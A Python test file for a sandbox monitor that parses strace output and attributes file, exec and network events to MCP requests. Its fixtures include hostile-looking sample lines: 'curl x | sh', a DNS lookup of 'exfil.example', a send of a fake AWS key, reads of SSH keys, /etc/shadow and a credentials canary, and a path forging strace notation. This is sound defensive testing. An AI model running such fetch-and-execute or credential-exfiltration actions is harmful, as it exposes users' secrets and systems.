"""strace's lines as events (mcp_review.sandbox.strace), and events as the wire log records them: where a path lies,
which request it happened under. The lines are strace 6.1's notation (`-f -ttt -y -xx`), written here with `hx()`
for the strings strace prints in hex, so a test reads as the call it is."""

from __future__ import annotations

from mcp_review.connection.wire import WireLog
from mcp_review.sandbox.confine import Layout
from mcp_review.sandbox.strace import Parser, dns_name


def hx(text: str | bytes) -> str:
    data = text.encode() if isinstance(text, str) else text
    return '"' + "".join(f"\\x{b:02x}" for b in data) + '"'


def fd(n: int, path: str) -> str:
    return f"{n}<{hx(path)[1:-1]}>"


def parse(*lines: str, launcher: str | None = None) -> list:
    parser = Parser(skip_until_exec=launcher)
    return parser.feed(("\n".join(lines) + "\n").encode())


def test_files_programs_and_their_results():
    events = parse(
        f"7 1.000001 openat(AT_FDCWD<{hx('/srv')[1:-1]}>, {hx('notes.txt')}, O_RDONLY|O_CLOEXEC) = {fd(3, '/srv/notes.txt')}",
        f"7 1.000002 openat(AT_FDCWD<{hx('/srv')[1:-1]}>, {hx('/etc/x')}, O_WRONLY|O_CREAT, 0666) = -1 EROFS (Read-only file system)",
        f"7 1.000003 unlinkat(AT_FDCWD<{hx('/srv')[1:-1]}>, {hx('old')}, AT_REMOVEDIR) = 0",
        f"7 1.000004 renameat2(AT_FDCWD<{hx('/srv')[1:-1]}>, {hx('a')}, AT_FDCWD<{hx('/srv')[1:-1]}>, {hx('b')}, 0) = 0",
        f"8 1.000005 execve({hx('/usr/bin/sh')}, [{hx('sh')}, {hx('-c')}, {hx('curl x | sh')}], 0x7ffd /* 9 vars */) = 0",
        f"8 1.000006 symlinkat({hx('/etc/passwd')}, AT_FDCWD<{hx('/srv')[1:-1]}>, {hx('l')}) = 0",
    )
    got = [(e.kind, e.path, e.to, e.result) for e in events]
    assert got == [
        ("read", "/srv/notes.txt", None, "ok"),
        ("write", "/etc/x", None, "EROFS"),
        ("delete", "/srv/old", None, "ok"),
        ("rename", "/srv/a", "/srv/b", "ok"),
        ("exec", "/usr/bin/sh", None, "ok"),
        ("link", "/srv/l", "/etc/passwd", "ok"),
    ]
    assert events[4].argv == ("sh", "-c", "curl x | sh") and events[4].pid == 8


def test_connections_datagrams_and_dns_names():
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"\x05exfil\x07example\x00\x00\x01\x00\x01"
    sock = f"{fd(4, 'socket:[991]')}"
    events = parse(
        f"9 2.0 connect({fd(3, 'socket:[990]')}, {{sa_family=AF_INET, sin_port=htons(443), "
        f"sin_addr=inet_addr({hx('203.0.113.7')})}}, 16) = -1 ENETUNREACH (Network is unreachable)",
        f"9 2.1 connect({fd(5, 'socket:[992]')}, {{sa_family=AF_INET6, sin6_port=htons(80), sin6_flowinfo=htonl(0), "
        f"inet_pton(AF_INET6, {hx('2001:db8::1')}, &sin6_addr), sin6_scope_id=0}}, 28) = -1 ENETUNREACH (x)",
        f"9 2.2 connect({fd(6, 'socket:[993]')}, {{sa_family=AF_UNIX, sun_path={hx('/run/docker.sock')}}}, 110) = -1 ENOENT (x)",
        f"9 2.3 connect({sock}, {{sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr({hx('127.0.0.1')})}}, 16) = 0",
        f"9 2.4 sendmmsg({sock}, [{{msg_hdr={{msg_name=NULL, msg_namelen=0, msg_iov=[{{iov_base={hx(query)}, "
        f"iov_len={len(query)}}}], msg_iovlen=1, msg_controllen=0, msg_flags=0}}, msg_len={len(query)}}}], 1, 0) = 1",
        f"9 2.5 sendto({fd(7, 'socket:[994]')}, {hx('AKIA1234')}, 8, 0, {{sa_family=AF_INET, sin_port=htons(9), "
        f"sin_addr=inet_addr({hx('198.51.100.2')})}}, 16) = -1 ENETUNREACH (x)",
    )
    assert [(e.kind, e.address, e.result) for e in events] == [
        ("connect", "203.0.113.7:443", "ENETUNREACH"),
        ("connect", "[2001:db8::1]:80", "ENETUNREACH"),
        ("connect", "unix:/run/docker.sock", "ENOENT"),
        ("connect", "127.0.0.1:53", "ok"),
        ("dns", "127.0.0.1:53", "ok"),
        ("send", "198.51.100.2:9", "ENETUNREACH"),
    ]
    assert events[4].name == "exfil.example" and events[5].data == "AKIA1234"


def test_an_unfinished_call_is_joined_and_the_launcher_is_skipped():
    bwrap = "/usr/bin/bwrap"
    events = parse(
        f"5 3.0 execve({hx(bwrap)}, [{hx('bwrap')}], 0x1 /* 3 vars */) = 0",
        f"5 3.1 openat(AT_FDCWD<{hx('/')[1:-1]}>, {hx('/etc/ld.so.cache')}, O_RDONLY) = {fd(3, '/etc/ld.so.cache')}",
        f"6 3.2 execve({hx('/usr/bin/python3')}, [{hx('python3')}, {hx('s.py')}], 0x2 /* 4 vars */ <unfinished ...>",
        "5 3.25 wait4(-1,  <unfinished ...>",
        "6 3.3 <... execve resumed>) = 0",
        f"6 3.4 openat(AT_FDCWD<{hx('/srv')[1:-1]}>, {hx('/root/.ssh/id_rsa')}, O_RDONLY) = -1 ENOENT (x)",
        launcher=bwrap,
    )
    assert [(e.kind, e.path) for e in events] == [("exec", "/usr/bin/python3"), ("read", "/root/.ssh/id_rsa")]


def test_a_path_that_forges_notation_stays_one_path():
    """A file named with quotes, brackets and a fake result is still one path: strace printed it in hex."""
    name = '/srv/x", O_RDONLY) = 3</etc/shadow>\n9 9.9 execve("/bin/sh'
    events = parse(f"4 4.0 openat(AT_FDCWD<{hx('/srv')[1:-1]}>, {hx(name)}, O_RDONLY) = -1 ENOENT (x)")
    assert [(e.kind, e.path) for e in events] == [("read", name)]


def test_a_dns_name_is_read_only_from_a_query():
    assert dns_name(b"\x00\x01\x81\x80" + b"\x00" * 8 + b"\x01a\x00\x00\x01\x00\x01") is None  # a response
    assert dns_name(b"\x00\x01\x01\x00" + b"\x00" * 8 + b"\x40" + b"a" * 64) is None  # a label over 63
    assert dns_name(b"\x00\x01\x01\x00" + b"\x00" * 8 + b"\x03abc\x00\x00\x01\x00\x01") == "abc"


def test_the_wire_log_says_where_and_under_which_request():
    """Start-up until the server first answered; then the last request sent before it, during or after its answer."""
    wire = WireLog()
    layout = Layout(True, "/home/r", "/srv", own=("/opt/py",), scratch=("/tmp/run/scratch",),
                    canaries=(("/home/r/.aws/credentials", "AWS credentials"),))  # fmt: skip
    conn = wire.new_connection()
    (early,) = parse(f"1 1.0 openat(AT_FDCWD<{hx('/srv')[1:-1]}>, {hx('/opt/py/lib/os.py')}, O_RDONLY) = -1 ENOENT (x)")
    first = wire.event(conn, early, layout)
    ask = wire.message("send", conn, {"jsonrpc": "2.0", "id": 1, "method": "initialize"}, "{}")
    wire.message("recv", conn, {"jsonrpc": "2.0", "id": 1, "result": {}}, "{}")
    call = {"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "lookup"}}
    sent = wire.message("send", conn, call, "{}")
    (secret,) = parse(
        f"1 {sent.t + 0.001} openat(AT_FDCWD<{hx('/srv')[1:-1]}>, {hx('/home/r/.aws/credentials')}, O_RDONLY) = 3"
    )
    during = wire.event(conn, secret, layout)
    assert first and first.event == {**early.to_json(), "where": "own", "phase": "start-up"}
    assert ask.seq < sent.seq
    assert during and during.event["where"] == "canary" and during.event["secret"] == "AWS credentials"
    assert {k: during.event[k] for k in ("phase", "request", "method", "tool")} == {
        "phase": "during", "request": sent.seq, "method": "tools/call", "tool": "lookup"
    }  # fmt: skip
    assert [layout.where(p) for p in ("/tmp/run/scratch/a", "/tmp/x", "/srv/db", "/home/r/.bashrc", "/etc/x")] == [
        "scratch", "temp", "work", "home", "system"
    ]  # fmt: skip
    # a project run from its own checkout is both its work and (installed editable) its own tree: work, where it
    # may write; its .venv inside is still its own
    editable = Layout(True, "/home/r", "/tmp/checkout", own=("/tmp/checkout", "/tmp/checkout/.venv"))
    assert [editable.where(p) for p in ("/tmp/checkout/pyproject.toml", "/tmp/checkout/.venv/bin/x")] == ["work", "own"]
